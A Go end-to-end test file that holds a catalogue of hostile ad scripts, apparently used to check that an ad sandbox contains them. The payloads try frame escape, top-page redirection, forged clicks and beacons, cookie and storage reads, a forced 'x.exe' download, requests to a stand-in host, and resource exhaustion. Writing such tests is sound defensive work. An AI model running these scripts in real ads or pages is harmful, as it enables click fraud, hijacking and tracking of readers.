package e2e_test

// hostileAds are pages of ads that try to reach more than their frame. E is another site, GO the address of a click on the ad; hit tells
// that something was reached. "~" in an address keeps the look at what is sent from seeing it: an ad that means harm hides better.
var hostileAds = map[string]string{
	// scripts of others
	"script written":   `document.write("<scr" + "ipt src='" + E + "/x.js'></scr" + "ipt>")`,
	"script added":     `const s = document.createElement("script"); s.src = E + "/x.js"; document.body.append(s)`,
	"script imported":  `import(E + "/x.mjs").catch(() => {})`,
	"sheet imported":   `document.head.append(Object.assign(document.createElement("style"), {textContent: "@import '" + E + "/x.css'; @font-face {font-family: x; src: url(" + E + "/x.woff2)} body {font-family: x; background: url(" + E + "/x.png)}"}))`,
	"script preloaded": `for (const rel of ["preload", "prefetch", "modulepreload", "prerender", "icon", "manifest", "stylesheet"]) document.head.append(Object.assign(document.createElement("link"), {rel, as: "script", href: E + "/" + rel}))`,
	"connection ahead": `for (const rel of ["preconnect", "dns-prefetch"]) document.head.append(Object.assign(document.createElement("link"), {rel, href: E + "/" + rel}))`,
	"speculation":      `document.head.append(Object.assign(document.createElement("script"), {type: "speculationrules", textContent: JSON.stringify({prefetch: [{urls: [E + "/p"]}], prerender: [{urls: [E + "/q"]}]})}))`,

	// the page around
	"title of the page":     `tried(() => { top.document.title = "x"; hit("title") })`,
	"text of the page":      `tried(() => { top.document.body.innerHTML = "x"; hit("text") })`,
	"text of its frame":     `tried(() => { parent.document.body.innerHTML = "x"; hit("frame") })`,
	"its element":           `if (frameElement) { frameElement.style.position = "fixed"; hit("element") }`,
	"frames beside":         `for (let i = 0; i < top.length; i++) tried(() => { if (top[i] !== parent) { top[i].document.title; hit("beside") } })`,
	"a word for the page":   `tried(() => { top.reached = 1; hit("word") })`,
	"functions of the page": `tried(() => { top.fetch("/newsroom/"); hit("function") })`,
	"one domain":            `tried(() => { document.domain = "127.0.0.1"; top.document.title; hit("domain") })`,
	"scripts by address":    `tried(() => { top.location = "javascript:document.title='x'" }); tried(() => { parent.location = "javascript:document.title='x'" })`,
	"who opened it":         `tried(() => { if (opener) hit("opener") }); tried(() => { if (top.opener.document) hit("opener") })`,
	"a forged offer":        `for (const w of [top, parent, ...Array.from({length: top.length}, (_, i) => top[i])]) for (const lede of ["forged", "", GO.split("/").pop(), {toString: () => "x"}, 1]) w.postMessage({lede}, "*")`,
	"a flood of messages":   `for (let i = 0; i < 5000; i++) top.postMessage({lede: "x".repeat(1000)}, "*")`,
	"the keyboard":          `document.body.innerHTML = "<input autofocus>"; document.querySelector("input").focus(); focus()`,
	"the place of the page": `document.body.insertAdjacentHTML("beforeend", "<p style='margin-top: 5000px' id=x>x"); document.getElementById("x").scrollIntoView(); location.hash = "x"; scrollTo(0, 5000)`,
	"the end of the page":   `tried(() => top.close()); tried(() => top.stop()); tried(() => parent.close()); close()`,
	"questions":             `tried(() => alert("x")); tried(() => confirm("x")); tried(() => prompt("x")); tried(() => print()); onbeforeunload = () => "x"`,

	// what is stored
	"storage":           `tried(() => { localStorage.x = 1; hit("local") }); tried(() => { top.localStorage.x = 1; hit("local of the page") })`,
	"storage of a tab":  `tried(() => { sessionStorage.x = 1; hit("session") })`,
	"cookies":           `tried(() => { document.cookie = "x=1"; if (document.cookie) hit("cookie") }); tried(() => { top.document.cookie; hit("cookie of the page") })`,
	"a cookie store":    `tried(async () => { await cookieStore.set("x", "1"); hit("cookie store") })`,
	"databases":         `tried(() => { const o = indexedDB.open("x"); o.onsuccess = () => hit("database") })`,
	"caches":            `tried(async () => { await caches.open("x"); hit("caches") })`,
	"files":             `tried(async () => { await navigator.storage.getDirectory(); hit("files") })`,
	"storage asked for": `tried(async () => { await document.requestStorageAccess(); localStorage.x; hit("asked") })`,
	"locks":             `tried(async () => { await navigator.locks.request("x", () => hit("lock")) })`,
	"a channel":         `tried(() => { const c = new BroadcastChannel("lede"); c.onmessage = () => hit("channel"); c.postMessage("x") })`,

	// where the reader is led
	"the top led away":       `tried(() => { top.location = E + "/top" })`,
	"the top replaced":       `tried(() => { top.location.replace(E + "/top") })`,
	"the frame led away":     `tried(() => { parent.location = E + "/parent" }); tried(() => { parent.location.href = E + "/parent" })`,
	"a link to the top":      `document.body.append(Object.assign(document.createElement("a"), {href: E + "/a", target: "_top"})); document.querySelector("a").click()`,
	"a form to the top":      `document.body.innerHTML = "<form target=_top method=post action='" + E + "/form'><input name=x value=1></form>"; tried(() => document.forms[0].submit()); tried(() => document.forms[0].requestSubmit())`,
	"opened at the top":      `tried(() => { open(E + "/top", "_top") }); tried(() => { open(E + "/parent", "_parent") })`,
	"a refresh":              `document.head.append(Object.assign(document.createElement("meta"), {httpEquiv: "refresh", content: "0;url=" + E + "/refresh"}))`,
	"itself led away":        `location = E + "/self"`,
	"itself to the paper":    `location = "/"`,
	"itself to the newsroom": `location = "/newsroom/"`,
	"back in time":           `tried(() => history.back()); tried(() => history.go(-1)); tried(() => navigation.back())`,
	"a file from nowhere":    `document.body.append(Object.assign(document.createElement("a"), {href: "data:application/octet-stream,x", download: "x.exe"})); document.querySelector("a").click()`,

	// windows and clicks that nobody made
	"a window":               `tried(() => { if (open(E + "/window")) hit("window") })`,
	"a window by a link":     `document.body.append(Object.assign(document.createElement("a"), {href: E + "/a", target: "_blank"})); document.querySelector("a").click(); document.querySelector("a").dispatchEvent(new MouseEvent("click", {bubbles: true, ctrlKey: true}))`,
	"a window by a form":     `document.body.innerHTML = "<form target=_blank action='" + E + "/form'></form>"; tried(() => document.forms[0].submit())`,
	"a click by a window":    `tried(() => { if (open(GO)) hit("window") })`,
	"a click by the frame":   `location = GO`,
	"a click by a picture":   `new Image().src = GO; tried(() => fetch(GO)); navigator.sendBeacon(GO)`,
	"a click by a script":    `document.body.append(Object.assign(document.createElement("script"), {src: GO})); document.head.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: GO}))`,
	"a click by nobody":      `document.body.append(Object.assign(document.createElement("a"), {href: "https:" + "//boats.example/"})); document.querySelector("a").click()`,
	"drawn, again and again": `for (let i = 0; i < 50; i++) new Image().src = GO.replace("go", "drawn") + "?" + i`,
	"seen by itself":         `fetch("/panel/seen", {method: "POST", body: JSON.stringify({seen: [{o: GO.split("/").pop(), m: "viewed", n: 0}]})}).catch(() => {}); navigator.sendBeacon("/panel/seen", "{}")`,

	// what is sent out
	"fetch":       `tried(() => fetch(E + "/fetch", {mode: "no-cors"})); const x = new XMLHttpRequest(); x.open("POST", E + "/xhr"); x.send("x")`,
	"a beacon":    `navigator.sendBeacon(E + "/beacon", "x"); document.body.innerHTML = "<a ping='" + E + "/ping' href=#x>x</a>"; document.querySelector("a").click()`,
	"pictures":    `new Image().src = E + "/pixel.gif"; document.body.insertAdjacentHTML("beforeend", "<video poster='" + E + "/poster' src='" + E + "/film'></video><svg><image href='" + E + "/svg'></svg><input type=image src='" + E + "/input'>")`,
	"sockets":     `tried(() => new WebSocket(E.replace("http", "ws"))); tried(() => new EventSource(E + "/events")); tried(() => new WebTransport(E.replace("http", "https")))`,
	"WebRTC":      `for (const w of [self, ...[document.body.appendChild(document.createElement("iframe"))].map(f => f.contentWindow)]) tried(() => { const p = new w.RTCPeerConnection({iceServers: [{urls: "stun:" + STUN}]}); p.createDataChannel("x"); p.createOffer().then(o => p.setLocalDescription(o)); hit("WebRTC") })`,
	"frames":      `for (const src of [E + "/frame", "/", "data:text/html,<scr" + "ipt>top.postMessage({hit: 'data'}, '*')</scr" + "ipt>", "blob:x"]) document.body.append(Object.assign(document.createElement("iframe"), {src})); document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: "<script src=" + E + "/srcdoc></scr" + "ipt>"})); document.body.insertAdjacentHTML("beforeend", "<object data='" + E + "/object'></object><embed src='" + E + "/embed'>")`,
	"workers":     `const b = URL.createObjectURL(new Blob(["fetch('" + E + "/worker'); postMessage(1)"])); tried(() => { new Worker(b).onmessage = () => hit("worker") }); tried(() => { new SharedWorker(b).port.onmessage = () => hit("worker") })`,
	"a service":   `tried(async () => { await navigator.serviceWorker.register("index.html"); hit("service worker") })`,
	"permissions": `tried(async () => { await navigator.clipboard.readText(); hit("clipboard") }); tried(async () => { await document.documentElement.requestFullscreen(); hit("fullscreen") }); tried(() => navigator.geolocation.getCurrentPosition(() => hit("place"))); tried(async () => { await Notification.requestPermission() === "granted" && hit("notices") }); tried(async () => { await navigator.mediaDevices.getUserMedia({audio: true}); hit("microphone") })`,

	// what weighs
	"a busy loop":      `setTimeout(() => { const end = Date.now() + 8000; while (Date.now() < end); }, 50)`,
	"a heavy memory":   `const held = []; for (let i = 0; i < 40; i++) held.push(new Uint8Array(4 << 20).fill(i))`,
	"a thousand nodes": `for (let i = 0; i < 20000; i++) document.body.append(document.createElement("p"))`,
}

// around is what stands around each of them.
const hostilePage = `<!doctype html><html><head><title>ad</title></head><body><p>Boats</p><script>
const E = "ht" + "tp:" + "//%s/%d", STUN = "%s", GO = self.clickTag ?? "";
const hit = (what) => top.postMessage({hit: what}, "*");
const tried = async (what) => { try { await what() } catch {} };
top.postMessage({ran: %d}, "*");
%s
</script></body></html>`
